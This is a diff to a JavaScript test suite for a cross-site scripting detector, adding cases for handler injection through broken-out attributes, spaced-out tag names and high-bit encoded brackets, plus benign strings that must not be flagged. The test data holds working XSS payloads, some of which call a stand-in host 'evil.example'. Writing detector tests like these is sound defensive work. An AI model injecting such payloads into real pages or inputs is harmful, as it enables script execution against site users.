@@ -82,7 +82,7 @@ describe('xss: string and attribute breakouts', () => {
   it('finds quotes closed into handlers, with or without a value', () => {
     assertFound([
       '" autofocus onfocus=go() x="', "' onpointerenter='x'", '"onzoom=', "'formaction=//evil.example/", 'x;onfocus=eval(name)',
-      "' onselect=$.get('//evil.example') '", '"/onwheel=x()',
+      "' onselect=$.get('//evil.example') '", '"/onwheel=x()', '(q);onfocus=x', '"x"/onmouseover=y',
     ], ['xss-004']);
   });
 
@@ -182,6 +182,11 @@ describe('xss: legacy browser vectors', () => {
       '<v:vmlframe src="x.vml#a"/>', '+ADw-script+AD4-go()', '<br size="&{go()}">', '&{(go())};',
       '<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">',
     ], ['xss-001', 'xss-009']);
+  });
+
+  it('finds letter-by-letter tag names and high-bit angle brackets', () => {
+    assertFound(['$<f o r m action=x', "'<d i a l o g open", '%BCscript%BEgo(1)%BC/script%BE'], ['xss-009']);
+    assertClean(['<a b c> is a list', 'a <s o> b', 'add 1/4 cup of sugar (about 3/4 oz)']);
   });
 
   it('finds SVG animation writing a handler', () => {
